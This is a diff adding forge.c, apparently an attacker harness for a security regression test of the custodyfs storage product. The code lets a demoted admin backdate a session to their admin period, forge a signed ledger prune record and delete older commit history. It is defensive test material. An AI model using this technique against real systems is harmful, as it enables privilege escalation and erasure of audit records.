@@ -1,0 +1,134 @@
+/*
+ * forge.c - an attacker's tool for test_attack_more_rights.sh: what a store
+ * user with their own passphrase and the source code can sign, linked with
+ * custodyfs's own layers (lib, store, keys) so the records are exactly the
+ * product's. The test compiles it against the build under test.
+ *
+ *   forge prune-base STORE CONFIG USER PASSFILE SEQ
+ *     Log in as USER (a demoted admin: their identity key is the one the
+ *     roster lists for their admin period too), endorse a session that
+ *     claims a roster counter at which USER was an admin, and with it
+ *     sign a prune record ("ledger_base") naming a commit of the forger's
+ *     own making at SEQ that copies the file's current signed state; every
+ *     older commit is deleted. Exit 0 when the rows are written.
+ *   forge prune-base-epoch ...
+ *     The same, with the roster's authority epoch where the record names
+ *     its signer (the record's layout once the authority signs it), still
+ *     signed by that session: the forger holds no authority secret.
+ */
+#include <errno.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "auth.h"
+#include "bytes.h"
+#include "cipher.h"
+#include "config.h"
+#include "ledger.h"
+#include "passphrase.h"
+#include "rights.h"
+#include "role.h"
+#include "session.h"
+#include "store.h"
+
+static int die(const char *what, int rc, const char *why)
+{
+	fprintf(stderr, "forge: %s: %s%s%s\n", what, strerror(rc < 0 ? -rc : rc),
+	        why && why[0] ? ": " : "", why ? why : "");
+	return 1;
+}
+
+static int prune_base(char **argv, int with_epoch)
+{
+	struct config cfg;
+	struct store *s = NULL;
+	struct passphrase pw = { 0 };
+	struct session *ss = NULL;
+	struct rights *r = NULL;
+	struct store_cred cur, upd;
+	struct ledger_commit *head = calloc(1, sizeof *head);
+	struct ledger_commit *prev = calloc(1, sizeof *prev);
+	struct ledger_commit *c = calloc(1, sizeof *c);
+	const struct rights_user *me;
+	char why[512] = "", err[256];
+	uint64_t then = 0, now;
+	int64_t seq = atoll(argv[4]);
+	int has = 0, rc;
+
+	if (cipher_init())
+		return die("cipher_init", EIO, NULL);
+	config_defaults(&cfg);
+	if (config_load(argv[1], &cfg, err, sizeof err))
+		return die("config", EINVAL, err);
+	if ((rc = store_open(argv[0], 0, 10000, &s, why, sizeof why)))
+		return die("open", rc, why);
+	if (passphrase_get(argv[3], NULL, "", 0, &pw, err, sizeof err))
+		return die("passphrase", EINVAL, err);
+	if ((rc = auth_login(s, &cfg, argv[2], &pw, NULL, NULL, &ss, &r, &cur,
+	                     &upd, &has, why, sizeof why)))
+		return die("login", rc, why);
+	me = rights_user(r, ss->user_id);
+	for (uint64_t k = 1; k <= r->counter; k++)
+		if (role_administers(rights_role_at(me, k)))
+			then = k;
+	if (!then)
+		return die("never an admin", EPERM, NULL);
+	if ((rc = store_begin(s)) || (rc = ledger_head(s, head)))
+		return die("head", rc, NULL);
+	/* the session: endorsed by the user's own identity key, claiming
+	 * the counter of their admin days */
+	now = r->counter;
+	r->counter = then;
+	rc = session_start(ss, s, r, "ctl", getpid());
+	r->counter = now;
+	if (rc)
+		return die("session", rc, NULL);
+	/* a commit nobody verifies: the base's own */
+	*prev = *head;
+	prev->seq = seq - 1;
+	cipher_random(prev->hash, 32);
+	if ((rc = ledger_append(s, r->store_id, prev, &head->st, &ss, 1, NULL, 0,
+	                        c)))
+		return die("commit", rc, NULL);
+	/* the prune record as a session signs it (the record an admin's
+	 * session wrote before the fix: seq, hash, session id, signature
+	 * over store id, seq and hash); with with_epoch, the roster's
+	 * epoch where the session id was */
+	{
+		uint8_t rec[8 + 32 + 8 + 64], msg[16 + 8 + 32];
+		put_le64(rec, (uint64_t)c->seq);
+		memcpy(rec + 8, c->hash, 32);
+		put_le64(rec + 40, with_epoch ? r->epoch : (uint64_t)ss->id);
+		memcpy(msg, r->store_id, 16);
+		put_le64(msg + 16, (uint64_t)c->seq);
+		memcpy(msg + 24, c->hash, 32);
+		session_sign(ss, "custodyfs.ledbas", msg, sizeof msg, rec + 48);
+		if ((rc = store_meta_set(s, "ledger_base", rec, sizeof rec)) ||
+		    (rc = store_ledger_delete_before(s, seq)) ||
+		    (rc = store_commit(s)))
+			return die("base", rc, NULL);
+	}
+	printf("forged base at commit %lld (session %lld claims roster %llu)\n",
+	       (long long)seq, (long long)ss->id, (unsigned long long)then);
+	session_free(ss);
+	rights_free(r);
+	passphrase_free(&pw);
+	store_close(s);
+	free(head);
+	free(prev);
+	free(c);
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc == 7 && !strcmp(argv[1], "prune-base"))
+		return prune_base(argv + 2, 0);
+	if (argc == 7 && !strcmp(argv[1], "prune-base-epoch"))
+		return prune_base(argv + 2, 1);
+	fprintf(stderr, "usage: forge prune-base[-epoch] STORE CONFIG USER"
+	        " PASSFILE SEQ\n");
+	return 2;
+}
